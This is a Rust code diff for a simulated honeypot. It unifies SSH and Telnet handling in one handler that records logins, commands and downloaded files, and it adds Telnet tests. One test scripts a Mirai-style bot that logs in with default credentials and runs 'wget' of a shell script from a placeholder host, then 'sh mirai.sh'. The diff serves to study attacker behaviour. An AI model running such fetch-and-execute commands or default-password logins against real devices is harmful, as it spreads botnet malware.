@@ -1,10 +1,14 @@
-//! Wire-accurate session path: the same honeypot policy and shell, driven
-//! through a real `sshwire` dialogue.
+//! The one bridge between the honeypot and the wire protocols.
 //!
-//! The bulk generator (`session`) skips byte framing for speed; this
-//! module proves the equivalence by running a scripted client against the
-//! honeypot over the full SSH message exchange and emitting the same
-//! [`SessionRecord`]. Examples and integration tests use it.
+//! [`WireHandler`] drives the auth policy and the shell for `sshwire`
+//! (port 22) and `telwire` (port 23) alike, and
+//! [`WireHandler::into_record`] is the one conversion of a finished
+//! dialogue into a [`SessionRecord`]. Live serving (`serve`) runs this
+//! handler over real sockets; [`run_wire_session`] and
+//! [`run_telnet_session`] run it against a scripted client in memory.
+//! The bulk generator (`session`) skips byte framing for speed, and
+//! `tests/equivalence.rs` pins these functions to it, so the oracle checks
+//! the handler that serves traffic.
 
 use crate::auth::AuthPolicy;
 use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
@@ -14,46 +18,136 @@ use netsim::Ipv4Addr;
 use sshwire::{
     run_dialogue, AuthOutcome, ClientScript, ServerHandler, SshClient, SshError, SshServer,
 };
+use telwire::{
+    run_telnet_dialogue, TelnetClient, TelnetError, TelnetHandler, TelnetScript, TelnetServer,
+};
 
-/// Bridges the honeypot policy and shell into `sshwire`'s handler trait.
+/// Bridges the honeypot policy and shell into both wire handler traits,
+/// so the same type serves port 22 and port 23, and records what the
+/// session did.
 pub struct WireHandler<'s> {
     policy: AuthPolicy,
-    shell: Shell<'s>,
+    store: &'s dyn RemoteStore,
+    /// Built on the session's first command: most sessions never run
+    /// one, and a parked connection should not carry a shell and its
+    /// file system. `Shell::new` is deterministic, so a record cannot
+    /// tell when it was built; boxing keeps it out of every slab slot.
+    shell: Option<Box<Shell<'s>>>,
+    logins: Vec<LoginAttempt>,
     commands: Vec<CommandRecord>,
 }
 
 impl<'s> WireHandler<'s> {
-    /// New handler over a fresh shell.
+    /// New handler; its shell is built on the first command.
     pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
         Self {
             policy,
-            shell: Shell::new(store),
+            store,
+            shell: None,
+            logins: Vec::new(),
             commands: Vec::new(),
+        }
+    }
+
+    /// Judges and records one login attempt. SSH's `none` probe carries
+    /// no password: it is always rejected, like Cowrie, and recorded
+    /// with an empty one.
+    fn login(&mut self, username: &str, password: Option<&str>) -> bool {
+        let success = password.is_some_and(|pw| self.policy.accept(username, pw));
+        self.logins.push(LoginAttempt {
+            username: username.to_string(),
+            password: password.unwrap_or_default().to_string(),
+            success,
+        });
+        success
+    }
+
+    /// Runs one command line through the shell and records it.
+    fn run(&mut self, command: &str) -> (String, bool) {
+        let store = self.store;
+        let shell = self
+            .shell
+            .get_or_insert_with(|| Box::new(Shell::new(store)));
+        let outcome = shell.exec_line(command);
+        self.commands.push(CommandRecord {
+            input: command.to_string(),
+            known: outcome.known,
+        });
+        (outcome.output, outcome.known)
+    }
+
+    /// The session end of an in-memory dialogue: one second per protocol
+    /// round plus one per login and per command, matching the bulk
+    /// path's scale.
+    fn modelled_end(&self, start: DateTime) -> DateTime {
+        start.plus_secs(3 + self.logins.len() as i64 + self.commands.len() as i64)
+    }
+
+    /// The finished session's record: the logins and commands this
+    /// handler saw and the shell's observations, stamped with the
+    /// connection's identity and what the caller knows of the dialogue.
+    pub fn into_record(
+        self,
+        meta: &WireSessionMeta,
+        protocol: Protocol,
+        client_version: Option<String>,
+        end: DateTime,
+        end_reason: SessionEndReason,
+    ) -> SessionRecord {
+        let (uris, file_events) = self
+            .shell
+            .map(|mut shell| shell.take_observations())
+            .unwrap_or_default();
+        SessionRecord {
+            session_id: 0, // the collector assigns dense ids
+            honeypot_id: meta.honeypot_id,
+            honeypot_ip: meta.honeypot_ip,
+            client_ip: meta.client_ip,
+            client_port: meta.client_port,
+            protocol,
+            start: meta.start,
+            end,
+            end_reason,
+            client_version,
+            logins: self.logins,
+            commands: self.commands,
+            uris,
+            file_events,
         }
     }
 }
 
 impl ServerHandler for WireHandler<'_> {
     fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
-        match password {
-            Some(pw) if self.policy.accept(username, pw) => AuthOutcome::Accept,
-            // The `none` probe is always rejected, like Cowrie.
-            _ => AuthOutcome::Reject,
+        if self.login(username, password) {
+            AuthOutcome::Accept
+        } else {
+            AuthOutcome::Reject
         }
     }
 
     fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
-        let outcome = self.shell.exec_line(command);
-        self.commands.push(CommandRecord {
-            input: command.to_string(),
-            known: outcome.known,
-        });
-        let status = if outcome.known { 0 } else { 127 };
-        (outcome.output.into_bytes(), status)
+        let (output, known) = self.run(command);
+        let status = if known { 0 } else { 127 };
+        (output.into_bytes(), status)
     }
 }
 
-/// Network identity of a wire session (addresses aren't part of the SSH
+impl TelnetHandler for WireHandler<'_> {
+    fn auth(&mut self, username: &str, password: &str) -> bool {
+        self.login(username, Some(password))
+    }
+
+    fn exec(&mut self, command: &str) -> String {
+        let (mut out, _) = self.run(command);
+        if !out.is_empty() && !out.ends_with('\n') {
+            out.push_str("\r\n");
+        }
+        out
+    }
+}
+
+/// Network identity of a wire session (addresses aren't part of the
 /// dialogue itself).
 #[derive(Debug, Clone)]
 pub struct WireSessionMeta {
@@ -85,38 +179,38 @@ pub fn run_wire_session(
         [0x5a; 16],
         b"server-nonce".to_vec(),
     );
-    let (log, mut handler) = run_dialogue(client, server)?;
+    let (log, handler) = run_dialogue(client, server)?;
+    let end = handler.modelled_end(meta.start);
+    let record = handler.into_record(
+        meta,
+        Protocol::Ssh,
+        Some(client_version),
+        end,
+        SessionEndReason::ClientClose,
+    );
+    Ok((record, log.bytes_to_server + log.bytes_to_client))
+}
 
-    let logins: Vec<LoginAttempt> = log
-        .auth_log
-        .iter()
-        .map(|(user, pass, ok)| LoginAttempt {
-            username: user.clone(),
-            password: pass.clone().unwrap_or_default(),
-            success: *ok,
-        })
-        .collect();
-    let (uris, file_events) = handler.shell.take_observations();
-
-    // Wall-clock modelling for the wire path: one second per protocol
-    // round plus one per command, matching the bulk path's scale.
-    let rounds = 3 + logins.len() as i64 + handler.commands.len() as i64;
-    let record = SessionRecord {
-        session_id: 0,
-        honeypot_id: meta.honeypot_id,
-        honeypot_ip: meta.honeypot_ip,
-        client_ip: meta.client_ip,
-        client_port: meta.client_port,
-        protocol: Protocol::Ssh,
-        start: meta.start,
-        end: meta.start.plus_secs(rounds),
-        end_reason: SessionEndReason::ClientClose,
-        client_version: Some(client_version),
-        logins,
-        commands: std::mem::take(&mut handler.commands),
-        uris,
-        file_events,
-    };
+/// Runs a scripted bot against the honeypot over the Telnet protocol and
+/// returns the session record plus total wire bytes.
+pub fn run_telnet_session(
+    meta: &WireSessionMeta,
+    script: TelnetScript,
+    policy: AuthPolicy,
+    store: &dyn RemoteStore,
+) -> Result<(SessionRecord, u64), TelnetError> {
+    let client = TelnetClient::new(script);
+    let server = TelnetServer::new(WireHandler::new(policy, store), "svr04");
+    let (log, handler) = run_telnet_dialogue(client, server)?;
+    let end = handler.modelled_end(meta.start);
+    // Telnet has no identification string.
+    let record = handler.into_record(
+        meta,
+        Protocol::Telnet,
+        None,
+        end,
+        SessionEndReason::ClientClose,
+    );
     Ok((record, log.bytes_to_server + log.bytes_to_client))
 }
 
@@ -218,5 +312,99 @@ mod tests {
             .file_events
             .iter()
             .any(|e| matches!(e.op, FileOp::Created { .. })));
+    }
+
+    #[test]
+    fn telnet_iot_bot_session() {
+        let fetch =
+            |uri: &str| (uri == "http://203.0.113.5/mirai.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
+        let script = TelnetScript {
+            logins: vec![
+                ("root".into(), "root".into()), // rejected
+                ("root".into(), "vertex25ektks123".into()),
+            ],
+            commands: vec![
+                "cd /tmp".into(),
+                "wget http://203.0.113.5/mirai.sh".into(),
+                "sh mirai.sh".into(),
+            ],
+        };
+        let (rec, bytes) =
+            run_telnet_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
+        assert_eq!(rec.protocol, Protocol::Telnet);
+        assert_eq!(rec.logins.len(), 2);
+        assert!(!rec.logins[0].success && rec.logins[1].success);
+        assert_eq!(rec.commands.len(), 3);
+        assert!(rec
+            .uris
+            .contains(&"http://203.0.113.5/mirai.sh".to_string()));
+        assert!(rec
+            .file_events
+            .iter()
+            .any(|e| matches!(e.op, FileOp::Created { .. })));
+        assert!(rec.attempts_exec());
+        assert!(bytes > 100);
+    }
+
+    #[test]
+    fn telnet_scouting_session() {
+        let store = NullStore;
+        let script = TelnetScript {
+            logins: vec![
+                ("admin".into(), "admin".into()),
+                ("root".into(), "root".into()),
+                ("guest".into(), "guest".into()),
+            ],
+            commands: vec!["id".into()],
+        };
+        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
+        assert!(!rec.login_succeeded());
+        assert!(rec.commands.is_empty());
+        assert_eq!(rec.logins.len(), 3);
+    }
+
+    #[test]
+    fn telnet_record_has_no_client_version() {
+        let store = NullStore;
+        let script = TelnetScript {
+            logins: vec![("root".into(), "tvbox".into())],
+            commands: vec![],
+        };
+        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
+        assert!(rec.client_version.is_none());
+        assert!(rec.login_succeeded());
+    }
+
+    fn ssh_handler<'s>(store: &'s NullStore, commands: &[&str]) -> WireHandler<'s> {
+        let client = SshClient::new(ClientScript::new("root", &["admin"], commands), vec![7]);
+        let server = SshServer::new(
+            WireHandler::new(AuthPolicy::default(), store),
+            sshwire::SERVER_VERSION_DEFAULT,
+            [0; 16],
+            vec![1],
+        );
+        let (log, handler) = run_dialogue(client, server).expect("ssh dialogue");
+        assert_eq!(log.authenticated_user.as_deref(), Some("root"));
+        handler
+    }
+
+    fn telnet_handler<'s>(store: &'s NullStore, commands: &[&str]) -> WireHandler<'s> {
+        let client = TelnetClient::new(TelnetScript {
+            logins: vec![("root".into(), "admin".into())],
+            commands: commands.iter().map(|c| c.to_string()).collect(),
+        });
+        let server = TelnetServer::new(WireHandler::new(AuthPolicy::default(), store), "svr04");
+        let (log, handler) = run_telnet_dialogue(client, server).expect("telnet dialogue");
+        assert!(log.auth_log.iter().any(|(_, _, ok)| *ok));
+        handler
+    }
+
+    #[test]
+    fn shell_is_built_on_the_first_command() {
+        let store = NullStore;
+        assert!(ssh_handler(&store, &[]).shell.is_none());
+        assert!(ssh_handler(&store, &["uname -a"]).shell.is_some());
+        assert!(telnet_handler(&store, &[]).shell.is_none());
+        assert!(telnet_handler(&store, &["uname -a"]).shell.is_some());
     }
 }
